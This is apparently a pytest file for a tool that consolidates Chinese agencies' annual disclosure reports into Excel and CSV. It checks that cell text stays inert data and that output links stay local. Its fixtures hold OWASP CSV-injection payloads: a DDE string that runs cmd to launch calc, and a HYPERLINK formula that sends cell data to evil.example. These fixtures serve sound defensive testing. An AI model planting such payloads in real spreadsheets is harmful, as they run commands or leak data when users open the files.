"""Nothing gets in: every text the tool writes, into any workbook or CSV, is data, never a
formula; links go only to cells of the workbook or to the files the tool read. And nothing
is silent: a consolidation that left something out never says ✓, and says what it left out.

The payloads are OWASP's CSV-injection examples (formulas, DDE, HYPERLINK), used as file
names, agency names, labels and texts of reports."""

from __future__ import annotations

import csv
import errno
import json
import re
import sys
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest
from lxml import etree
from openpyxl import load_workbook

from nianbao.cli import main
from nianbao.files import save_atomically
from nianbao.model import Cell, LegacyRow, Meta, Report, Unmapped, finite_json
from nianbao.spec import load_spec
from nianbao.validate.annotate import READ_ONLY
from nianbao.workbook import write_workbook

from .conftest import CASES

YEAR = 2021
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (DDE, "=1+2", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2", "2+3",
            '=HYPERLINK("http://evil.example/?q="&A1,"点此")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
_HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
_NOT_TEMPLATE = {"mode", "ahead"}
# What the workbook's own formulas (its live rules: nianbao.workbook.live) are made of.
_LIVE_FUNCTIONS = {"SUM", "ABS", "IF", "ISNUMBER", "ISTEXT", "ISBLANK", "ROUND", "COUNT", "COUNTA",
                   "SUMIFS", "AND", "OR", "NOT", "FALSE", "TRUE"}
_SPEC = load_spec()
_LIVE_WORDS = {*_SPEC.findings.severity.values(), *(
    w for key in ("ok", "prefix", "separator", "blank") for w in [_SPEC.workbook.live[key]]), *(
    part for key in ("errors", "warnings") for part in _SPEC.workbook.live[key].split("{n}")), ""}


def _file_name(payload: str) -> str:
    return payload.replace("/", "-") + ".xlsx"  # "/" is the one character a file name cannot hold


def _department(agency: str, n: int, year: int = YEAR, broken: bool = False) -> Report:
    """A 2021-edition report with n applications from people, one from a company, all granted;
    ``broken``: one granted too few (an error on 校验, with a link to the cell)."""
    report = Report.blank(Meta(agency=agency, year=year, edition="2021", source=agency))
    zeros = dict(research=0, social_welfare=0, legal_service=0, other_org=0)
    for row in ("new_received", "granted", "total_processed", "carried_in", "carried_over"):
        people = 0 if row.startswith("carried") else n
        values = dict(natural_person=people, commercial=0 if row.startswith("carried") else 1,
                      total=people + (0 if row.startswith("carried") else 1), **zeros)
        if broken and row == "granted":
            values["natural_person"] = n - 1
        for column, value in values.items():
            report.tables["requests"][row][column] = Cell(value)
    report.tables["active"]["licensing"]["decisions"] = Cell(10 * n)
    report.narrative["overview"] = f"{agency} 全年情况"
    report.unmapped.append(Unmapped(DDE, f"{DDE} 第1行"))
    return report


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_live_formula(formula: str) -> None:
    """A formula of the workbook's live rules: the spec's words as its only strings, the
    workbook's sheets, cell references, numbers and a few functions; nothing a report wrote."""
    strings = re.findall(r'"([^"]*)"', formula)
    assert set(strings) <= _LIVE_WORDS, formula
    rest = re.sub(r'"[^"]*"', '""', formula)
    assert set(re.findall(r"'([^']*)'!", rest)) <= set(_SPEC.sheets.values()), formula
    rest = re.sub(r"'[^']*'!", "", rest)
    assert set(re.findall(r"[A-Z]+(?=\()", rest)) <= _LIVE_FUNCTIONS, formula
    assert re.fullmatch(r'[A-Z0-9$:,()+\-<>=.&"]*', rest), formula


def assert_nothing_gets_in(path: Path, inputs: set[Path]) -> None:
    """The xlsx's XML, every part: no formula element (in sheets or charts) but the live
    rules', no external link part, no DDE; every hyperlink to a cell of the workbook or to one
    of ``inputs`` by a relative path; every cell holding text typed as a string."""
    parts = _parts(path)
    assert not [name for name in parts if name.startswith("xl/externalLinks")]
    assert b"ddeLink" not in parts["xl/workbook.xml"] and b"externalReference" not in parts["xl/workbook.xml"]
    for name, data in parts.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(data)
        for formula in (e for e in root.iter() if isinstance(e.tag, str) and etree.QName(e).localname == "f"):
            assert_live_formula(formula.text or "")
        if name.startswith("xl/worksheets/sheet"):
            for cell in root.iter(f"{_MAIN}c"):
                value = cell.find(f"{_MAIN}v")
                computed = cell.find(f"{_MAIN}f") is not None  # a live rule's: checked above
                if cell.get("t") not in ("s", "inlineStr") and value is not None and not computed:
                    float(value.text or "")  # a number, whatever else: text is typed as text
        if name.endswith(".rels"):
            for rel in root.iter(f"{_RELS}Relationship"):
                if rel.get("TargetMode") != "External":
                    continue
                assert rel.get("Type") == _HYPERLINK, (name, rel.get("Target"))
                target = rel.get("Target") or ""
                file_part = target.split("#", 1)[0]
                assert not re.match(r"^[A-Za-z][A-Za-z0-9+.-]*:", file_part), target  # no scheme, no file://
                assert not file_part.startswith(("/", "\\")), target
                linked = (path.parent / unquote(file_part)).resolve()
                assert linked in inputs, target


def assert_csv_escaped(path: Path) -> list[list[str]]:
    """Every field of the CSV that a spreadsheet would take for a formula is escaped (OWASP):
    a number, or text that does not start with = + - @ tab or CR."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    text = path.read_text(encoding="utf-8-sig")
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_STARTS):
                float(field)  # "-1.0": a number is a number
    for raw_line in text.splitlines()[1:4]:  # text fields are quoted
        assert raw_line.startswith('"')
    return rows


# --- the consolidated workbook and the long CSV -----------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    reports, last_year = root / "各单位", root / "上年"
    reports.mkdir()
    last_year.mkdir()
    for i, payload in enumerate(PAYLOADS, start=1):
        write_workbook(_department(payload, i, broken=i % 2 == 0), reports / _file_name(payload))
        write_workbook(_department(payload, i, year=YEAR - 1), last_year / _file_name(payload))
    write_workbook(_department(DDE, 99), reports / "=1+1 更正.xlsx")  # a duplicate
    legacy = Report.blank(Meta(agency="@统计表单位", year=YEAR, edition="legacy"))
    legacy.legacy = [LegacyRow("1", DDE, "=件", 3), LegacyRow("2", "+1+2", None, 4)]
    write_workbook(legacy, reports / "-legacy.xlsx")
    (reports / "=cmd|' -C calc'!A0 坏.xlsx").write_bytes(b"PK\x03\x04 damaged")
    roster = root / "名单.csv"
    roster.write_text("填报单位\n" + "\n".join(f'"{p}"' for p in (DDE, "=未报送+1", "-未报送")) + "\n",
                      encoding="utf-8-sig")
    return {"root": root, "reports": reports, "last_year": last_year, "roster": roster}


@pytest.fixture(scope="module")
def consolidated(hostile) -> tuple[Path, int, str]:
    output = hostile["root"] / "输出" / "汇总.xlsx"
    stderr = hostile["root"] / "stderr.txt"
    saved = sys.stderr
    with stderr.open("w", encoding="utf-8") as sys.stderr:
        try:
            code = main(["consolidate", str(hostile["reports"]), "-o", str(output), "--roster",
                         str(hostile["roster"]), "--previous", str(hostile["last_year"]), "--to", "csv"])
        finally:
            sys.stderr = saved
    return output, code, stderr.read_text(encoding="utf-8")


def test_the_consolidated_workbook_holds_no_formula_and_no_foreign_link(hostile, consolidated) -> None:
    output, code, _ = consolidated
    assert code == 2  # one file could not be read
    inputs = {p.resolve() for folder in (hostile["reports"], hostile["last_year"]) for p in folder.iterdir()}
    assert_nothing_gets_in(output, inputs)
    wb = load_workbook(output)
    assert wb.sheetnames == ["汇总", "明细", "校验", "缺报与重复", "同比", "统计表汇总", "图表"]
    detail = wb["明细"]
    agencies = [detail.cell(r, 1).value for r in range(4, detail.max_row + 1)]
    files = [detail.cell(r, 7).value for r in range(4, detail.max_row + 1)]
    assert DDE in agencies and "\r=1+2" in agencies and "@统计表单位" in agencies  # the text, kept as it is
    assert "=1+1 更正.xlsx" in files and "@SUM(1+2).xlsx" in files
    rows = range(4, detail.max_row + 1)
    link = next(detail.cell(r, 7) for r in rows if detail.cell(r, 7).value == "2+3.xlsx")
    assert link.hyperlink.target == "../各单位/2+3.xlsx" and link.data_type == "s"
    quoted = next(detail.cell(r, 1) for r in rows if detail.cell(r, 1).value == "+1+2")
    assert quoted.quotePrefix  # stays text when a clerk edits the cell
    findings = wb["校验"]
    texts = {c.value for row in findings.iter_rows() for c in row}
    assert "=cmd|' -C calc'!A0 坏.xlsx" in texts and "-1+2" in texts
    legacy = [[c.value for c in r] for r in wb["统计表汇总"].iter_rows(min_row=2)]
    assert [DDE, "=件", 3] == legacy[0][1:4]


def test_link_targets_are_relative_paths_escaped() -> None:
    from nianbao.consolidate.sheets import _link

    out = Path("/data/汇总/汇总.xlsx")
    assert _link(Path("/data/各单位/http:evil.xlsx"), out) == "../各单位/http:evil.xlsx"
    assert _link(Path("/data/汇总/http:evil.xlsx"), out) == "./http:evil.xlsx"  # never a scheme
    assert _link(Path("/data/汇总/a#b 100%.xlsx"), out) == "a%23b%20100%25.xlsx"
    assert _link(Path("/data/汇总/乙局.xlsx"), out, "三、依申请公开!D27") == "乙局.xlsx#'三、依申请公开'!D27"


def test_the_long_csv_is_escaped_as_owasp_recommends(hostile, consolidated) -> None:
    output, _, _ = consolidated
    rows = assert_csv_escaped(output.with_suffix(".csv"))
    header = rows[0]
    agencies = {row[header.index("agency")] for row in rows[1:]}
    sources = {row[header.index("source")] for row in rows[1:]}
    # "=1+2" with a tab or a CR in front is the same agency: the file modified last is used
    assert {"'" + DDE, "'+1+2", "'-1+2", "'@SUM(1+2)", "'\r=1+2", "2+3", "'@统计表单位"} <= agencies
    assert "'=1+1 更正.xlsx" in sources and "2+3.xlsx" in sources


def test_formula_payloads_in_a_standard_workbook(tmp_path: Path) -> None:
    """The standard workbook writer (convert) and validate --annotate: agency, texts, legacy
    labels and cell texts from a report stay text."""
    report = _department(DDE, 3, broken=True)
    report.tables["requests"]["new_received"]["research"] = Cell(None, raw="=1+2")  # text in a count cell
    report.narrative["problems"] = "@SUM(1+2)"
    path = tmp_path / _file_name(DDE)
    write_workbook(report, path)
    assert_nothing_gets_in(path, set())
    legacy = Report.blank(Meta(agency="-1+2", year=2018, edition="legacy"))
    legacy.legacy = [LegacyRow("1", DDE, "+条", 3)]
    write_workbook(legacy, tmp_path / "legacy.xlsx")
    assert_nothing_gets_in(tmp_path / "legacy.xlsx", set())

    assert main(["validate", str(path), "--annotate"]) == 1
    assert_nothing_gets_in(path, set())
    wb = load_workbook(path)
    assert DDE in {c.value for r in wb["基本信息"].iter_rows() for c in r}
    results = [[c.value for c in r] for r in wb["校验结果"].iter_rows(min_row=3)]
    assert results and all(r[2] for r in results)


def test_convert_writes_formula_text_from_a_report_as_text(tmp_path: Path, capsys) -> None:
    source = (CASES / "004_zibo_2021.txt").read_text(encoding="utf-8")
    lines = source.splitlines()
    hostile = tmp_path / "=1+2.txt"
    hostile.write_text("\n".join([lines[0], DDE, "=1+2", "+1+2", "@SUM(1+2)", PAYLOADS[-2], *lines[1:]]),
                       encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert main(["convert", str(hostile), "-o", str(out)]) == 0
    assert_nothing_gets_in(out, set())
    texts = {c.value for ws in load_workbook(out).worksheets for r in ws.iter_rows() for c in r}
    assert DDE in texts


# --- never silent ----------------------------------------------------------------------------


def _run(argv: list[str], capsys) -> tuple[int, list[str]]:
    code = main(argv)
    return code, capsys.readouterr().err.splitlines()


def _workbook(folder: Path, agency: str, year: int = YEAR, broken: bool = False) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{agency}.xlsx"
    write_workbook(_department(agency, 3, year=year, broken=broken), path)
    return path


def test_a_consolidation_with_no_input_is_refused(tmp_path: Path, capsys) -> None:
    empty = tmp_path / "空"
    empty.mkdir()
    output = tmp_path / "汇总.xlsx"
    code, err = _run(["consolidate", str(empty), "-o", str(output)], capsys)
    assert code == 2
    assert err == [f"✗ {empty}：没有找到年报文件（标准工作簿或 convert 能读的年报文件），未写出 汇总.xlsx"]
    assert not output.exists()


def test_clean_errors_and_unreadable_are_told_apart(tmp_path: Path, capsys) -> None:
    good, output = tmp_path / "好", tmp_path / "汇总.xlsx"
    _workbook(good, "甲局")
    code, err = _run(["consolidate", str(good), "-o", str(output)], capsys)
    assert (code, err) == (0, [f"✓ {output}：汇总 1 个单位，错误 0 个，警告 0 个"])
    _workbook(good, "乙局", broken=True)
    code, err = _run(["consolidate", str(good), "-o", str(output)], capsys)
    assert code == 1
    assert err == [f"! {output}：汇总 2 个单位，错误 2 个，警告 0 个（原文件已备份为 汇总.bak.xlsx）"]
    bad = good / "坏.xlsx"
    bad.write_bytes(b"not a workbook")
    code, err = _run(["consolidate", str(good), "-o", str(output)], capsys)
    assert code == 2
    assert err[0].startswith(f"✗ {bad}：")
    assert err[1:] == [f"✗ {output}：汇总 2 个单位，错误 3 个，警告 0 个（原文件已备份为 汇总.bak2.xlsx）",
                       "✗ 汇总不完整：1 个文件无法读取，未计入汇总：坏.xlsx"]
    headline = load_workbook(output)["汇总"]["A2"].value
    assert headline.endswith("；汇总不完整：1 个文件无法读取，未计入汇总（坏.xlsx，见“校验”表）。")


def test_unreadable_last_year_files_are_named_and_not_silent(tmp_path: Path, capsys) -> None:
    now, last, output = tmp_path / "本年", tmp_path / "上年", tmp_path / "汇总.xlsx"
    _workbook(now, "甲局")
    _workbook(last, "甲局", year=YEAR - 1)
    (last / "乙局.xlsx").write_bytes(b"PK\x03\x04 damaged")
    code, err = _run(["consolidate", str(now), "-o", str(output), "--previous", str(last)], capsys)
    assert code == 2
    assert err[0].startswith(f"✗ 上年 {last / '乙局.xlsx'}：")
    assert err[1:] == [f"✗ {output}：汇总 1 个单位，错误 0 个，警告 0 个",
                       "✗ 同比不完整：1 个上年文件无法读取：乙局.xlsx"]
    wb = load_workbook(output)
    assert wb["汇总"]["A2"].value.endswith("；同比不完整：1 个上年文件无法读取（乙局.xlsx，见“同比”表）。")
    years = {c.value for r in wb["同比"].iter_rows() for c in r}
    assert "无法读取的上年文件（1 个，同比不完整）" in years and "乙局.xlsx" in years

    nowhere = tmp_path / "没有这个文件夹"
    code, err = _run(["consolidate", str(now), "-o", str(output), "--previous", str(nowhere)], capsys)
    assert code == 2
    assert err[0] == f"✗ 上年 {nowhere}：文件不存在"
    assert err[-1] == "✗ 同比不完整：1 个上年文件无法读取：没有这个文件夹"
    empty = tmp_path / "空"
    empty.mkdir()
    code, err = _run(["consolidate", str(now), "-o", str(output), "--previous", str(empty)], capsys)
    assert code == 2
    assert err[0] == f"✗ 上年 {empty}：没有找到年报文件（标准工作簿或 convert 能读的年报文件）"


def test_a_workbook_missing_a_sheet_part_is_not_summed(tmp_path: Path, capsys) -> None:
    folder, output = tmp_path / "各单位", tmp_path / "汇总.xlsx"
    whole = _workbook(folder, "甲局")
    cut = folder / "乙局.xlsx"
    with zipfile.ZipFile(whole) as src, zipfile.ZipFile(cut, "w") as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet3.xml":  # 三、依申请公开
                dst.writestr(info, src.read(info.filename))
    code, err = _run(["consolidate", str(folder), "-o", str(output)], capsys)
    assert code == 2
    # the reason names the sheet (the workbook reader may give it first, in its own words)
    assert err[0].startswith(f"✗ {cut}：") and "“三、依申请公开”" in err[0] and "无法可靠读取" in err[0]
    assert err[1].startswith(f"✗ {output}：汇总 1 个单位，")


def test_a_read_only_folder_is_refused_in_chinese(tmp_path: Path, capsys) -> None:
    folder, locked = tmp_path / "各单位", tmp_path / "只读"
    _workbook(folder, "甲局")
    locked.mkdir()
    locked.chmod(0o555)
    try:
        code, err = _run(["consolidate", str(folder), "-o", str(locked / "汇总.xlsx")], capsys)
        assert code == 2
        assert err == [f"✗ 无法在文件夹“{locked}”中写出 汇总.xlsx（文件夹没有写入权限），未作任何改动"]
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o755)


def test_a_failed_save_is_refused_in_chinese(tmp_path: Path, capsys, monkeypatch) -> None:
    import nianbao.consolidate.consolidation as consolidation

    def refuse(path, write, backup=True):
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(consolidation, "save_atomically", refuse)
    folder = tmp_path / "各单位"
    _workbook(folder, "甲局")
    code, err = _run(["consolidate", str(folder), "-o", str(tmp_path / "汇总.xlsx")], capsys)
    assert code == 2
    locked = "没有写入权限，或文件正被其他程序打开"
    assert err == [f"✗ 无法在文件夹“{tmp_path}”中写出 汇总.xlsx（{locked}），未作任何改动"]
    folder_named_so = tmp_path / "同名.xlsx"
    folder_named_so.mkdir()
    code, err = _run(["consolidate", str(folder), "-o", str(folder_named_so)], capsys)
    assert code == 2
    assert err == [f"✗ 无法在文件夹“{tmp_path}”中写出 同名.xlsx（已有同名的文件夹），未作任何改动"]


def test_annotate_refuses_a_read_only_file(tmp_path: Path, capsys) -> None:
    path = _workbook(tmp_path, "甲局", broken=True)
    before = path.read_bytes()
    path.chmod(0o444)
    try:
        code, err = _run(["validate", str(path), "--annotate"], capsys)
    finally:
        path.chmod(0o644)
    assert code == 2
    assert err == [f"✗ {path}：无法写入校验结果（{READ_ONLY}）"]
    assert READ_ONLY == "文件是只读的，未作改动；要写入校验结果，请先取消文件的只读属性"
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["甲局.xlsx"]


def test_an_interrupted_save_leaves_no_temporary_file(tmp_path: Path) -> None:
    path = tmp_path / "年报.xlsx"
    path.write_bytes(b"previous")

    def interrupted(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        save_atomically(path, interrupted)
    assert [p.name for p in tmp_path.iterdir()] == ["年报.xlsx"] and path.read_bytes() == b"previous"


@pytest.mark.filterwarnings("ignore::RuntimeWarning")  # the validator's arithmetic on an infinite count
def test_json_never_holds_infinity_or_nan(tmp_path: Path, capsys) -> None:
    assert finite_json({"a": float("inf"), "b": [float("nan"), 1.5], "c": -float("inf"), "d": "x"}) == {
        "a": None, "b": [None, 1.5], "c": None, "d": "x"}
    path = _workbook(tmp_path, "甲局")
    infinite = tmp_path / "无穷.xlsx"
    parts = _parts(path)
    sheet = parts["xl/worksheets/sheet3.xml"]
    first = re.compile(rb'(<c r="D4"[^>]*>)<v>[^<]*</v>')
    parts["xl/worksheets/sheet3.xml"] = first.sub(rb"\g<1><v>1e999</v>", sheet, count=1)
    assert parts["xl/worksheets/sheet3.xml"] != sheet
    with zipfile.ZipFile(infinite, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)

    def strict(token: str) -> None:
        raise AssertionError(f"{token} in JSON")

    main(["validate", str(infinite), "--format", "json"])
    main(["convert", str(infinite), "--to", "json", "-o", "-"])
    out = capsys.readouterr().out
    decoder = json.JSONDecoder(parse_constant=strict)
    index = 0
    while index < len(out.strip()):
        _, index = decoder.raw_decode(out, index)
        index += len(out[index:]) - len(out[index:].lstrip())


def test_the_checks_themselves_catch_what_they_look_for(tmp_path: Path) -> None:
    """The XML check finds a formula and a link to elsewhere, the CSV check an unescaped field."""
    path = tmp_path / "公式.xlsx"
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = DDE
    wb.save(path)
    with pytest.raises(AssertionError):
        assert_nothing_gets_in(path, set())
    wb = Workbook()
    wb.active["A1"] = "x"
    wb.active["A1"].hyperlink = "http://evil.example/"
    wb.save(path)
    with pytest.raises(AssertionError):
        assert_nothing_gets_in(path, set())
    csv_path = tmp_path / "长表.csv"
    csv_path.write_text('"agency"\n"=1+2"\n', encoding="utf-8-sig")
    with pytest.raises(ValueError):
        assert_csv_escaped(csv_path)


def test_the_add_in_writes_text_with_a_quote_prefix() -> None:
    """Excel takes a value written through xlwings that starts with = for a formula: the add-in's
    校验结果 rows write text with Excel's quote prefix."""
    pytest.importorskip("xlwings")
    from nianbao.addin.excel import _as_text

    assert [_as_text(v) for v in (DDE, "@SUM(1+2)", "三、依申请公开!D27", 3, None)] == [
        "'" + DDE, "'@SUM(1+2)", "三、依申请公开!D27", 3, None]


def test_a_number_excel_cannot_hold_is_written_as_its_text(tmp_path: Path) -> None:
    """A 400-digit count or an infinite value: the writer neither fails nor rounds it; the
    cell holds the text it was read from."""
    report = Report.blank(Meta(agency="甲局", year=YEAR, edition="2021"))
    digits = "9" * 400
    report.tables["requests"]["new_received"]["total"] = Cell(int(digits), raw=digits)
    report.tables["requests"]["new_received"]["natural_person"] = Cell(float("inf"), raw="1e999")
    path = tmp_path / "大数.xlsx"
    write_workbook(report, path)
    assert_nothing_gets_in(path, set())
    wb = load_workbook(path)
    names = {name: dn for name, dn in wb.defined_names.items()}
    values = {}
    for key in ("requests.new_received.total", "requests.new_received.natural_person"):
        sheet, address = next(iter(names[key].destinations))
        values[key] = wb[sheet][address.replace("$", "")].value
    assert values == {"requests.new_received.total": digits, "requests.new_received.natural_person": "1e999"}


def test_a_roster_that_cannot_be_read_stops_the_run_in_chinese(tmp_path: Path, capsys) -> None:
    folder, output = tmp_path / "各单位", tmp_path / "汇总.xlsx"
    whole = _workbook(folder, "甲局")
    garbage, cut, undecodable = tmp_path / "名单.xlsx", tmp_path / "半个.xlsx", tmp_path / "名单.csv"
    garbage.write_bytes(b"PK\x03\x04 garbage")
    cut.write_bytes(whole.read_bytes()[:300])
    undecodable.write_bytes(b"\xff\xfe\x00\x81\x30garbage\xfe")
    damaged = "无法读取名单：不是有效的 Excel（.xlsx）或 CSV 文件，文件可能已损坏或不完整"
    for roster, reason in ((garbage, damaged), (cut, damaged),
                           (undecodable, "无法读取名单：无法识别文本编码（请存为 UTF-8 或 GBK 编码的 CSV）"),
                           (tmp_path / "没有.xlsx", "名单文件不存在"), (folder, "名单不是普通文件")):
        code, err = _run(["consolidate", str(folder), "-o", str(output), "--roster", str(roster)], capsys)
        assert (code, err) == (2, [f"✗ {roster}：{reason}"])
        assert not output.exists()


def test_sigterm_stops_a_run_like_ctrl_c_without_a_traceback_or_a_temporary_file(tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys as _sys
    import time

    source = Path(__file__).parent / "data" / "cases" / "004_zibo_2021.txt"
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    for i in range(300):  # more than a loaded machine converts before the signal arrives
        (inputs / f"r{i}.txt").write_bytes(source.read_bytes())
    out = tmp_path / "out"
    proc = subprocess.Popen([_sys.executable, "-m", "nianbao.cli", "convert", str(inputs), "-o", str(out)],
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not (out.exists() and any(out.glob("*.xlsx"))):
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 130
    assert "Traceback" not in err
    assert err.rstrip().splitlines()[-1] == "nianbao：已中断；已完成的文件保留，正在写的文件未改动"
    assert not list(out.glob(".nianbao-*")) and not list(out.glob(".*"))


def test_cells_spliced_into_a_saved_sheet_are_data_as_written(tmp_path: Path) -> None:
    """The findings' cells are written as XML and put at the end of their streamed rows: text
    is an inline string (formula-like text with the quote prefix, never a formula; spaces,
    a carriage return and markup kept), numbers are numbers, blanks and NaN are left out; an
    empty streamed row gets its cells too."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    from nianbao.consolidate.sheets import _cells_xml, _splice

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("校验")
    quoted = WriteOnlyCell(ws)
    quoted.quotePrefix = True
    ws.append(["单位", "年度"])
    ws.append(["甲局"])
    ws.append([])
    values = [DDE, " 前后有空格 ", "a\r\nb<&>\"", 1.5, 7, None, float("nan"), "-1+2", "\x07"]
    spliced = {2: _cells_xml(2, 2, values, quoted.style_id), 3: _cells_xml(3, 1, ["空行"], quoted.style_id)}
    path = tmp_path / "spliced.xlsx"
    wb.save(path)
    _splice(path, {"校验": spliced})
    sheet = load_workbook(path)["校验"]
    row = [sheet.cell(2, c) for c in range(1, 11)]
    assert [c.value for c in row] == ["甲局", DDE, " 前后有空格 ", "a\r\nb<&>\"", 1.5, 7, None, None, "-1+2",
                                      None]
    assert [c.data_type for c in row[1:4]] == ["s", "s", "s"]  # text, not a formula
    assert row[1].quotePrefix and row[8].quotePrefix and not row[2].quotePrefix
    assert sheet.cell(3, 1).value == "空行"
    assert sheet.cell(1, 2).value == "年度"  # rows not given are as they were
